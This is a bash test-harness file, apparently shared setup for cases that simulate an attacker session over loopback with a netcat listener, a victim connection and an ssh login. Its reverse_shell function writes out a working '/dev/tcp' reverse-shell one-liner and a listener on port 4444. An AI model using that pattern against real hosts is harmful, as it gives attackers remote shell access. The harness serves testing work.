# What the cases share: a listener that types, victims that connect to it, a real login over loopback.
# Sourced by each case, first of all: it tells stage.sh its pid. Every wait is bounded.
echo $$ >&3
exec 3>&-
port=4444

# Types each line of its input after a pause, as a person would, then ends.
type_lines() {
  sleep 0.7
  while IFS= read -r line; do
    printf '%s\n' "$line"
    sleep "${pause:-0.6}"
  done
}

# The attacker's side: listens once and types its input to whoever connects.
listen_and_type() {
  type_lines | timeout 25 nc -l -n -s 127.0.0.1 -p "$port"
}

# A plain reverse shell without a terminal, as after an exploit; input: what the attacker types.
# A shell gives background commands an empty input, so the typed lines are handed over by descriptor.
reverse_shell() {
  exec 4<&0
  listen_and_type <&4 &
  sleep 0.3
  timeout 20 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1"
  wait
}

# Runs the given command as the victim, which connects by itself; input: what the attacker types.
victim_connects() {
  exec 4<&0
  listen_and_type <&4 &
  sleep 0.3
  timeout 20 "$@"
  wait
}

# A login over ssh with a real terminal; input: what the user types.
login() {
  mkdir -p -m 700 /root/.ssh /run/sshd /srv/demo/ssh
  ssh-keygen -q -t ed25519 -N '' -f /srv/demo/ssh/host
  ssh-keygen -q -t ed25519 -N '' -C demo -f /root/.ssh/id_ed25519
  cp /root/.ssh/id_ed25519.pub /root/.ssh/authorized_keys
  timeout 30 /usr/sbin/sshd -D -f /dev/null -h /srv/demo/ssh/host -p 2222 -o ListenAddress=127.0.0.1 \
    -o UsePAM=yes -o PidFile=none -o PrintMotd=no &
  server=$!
  sleep 0.5
  type_lines | timeout 25 ssh -tt -q -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@127.0.0.1
  kill "$server"
  wait
}
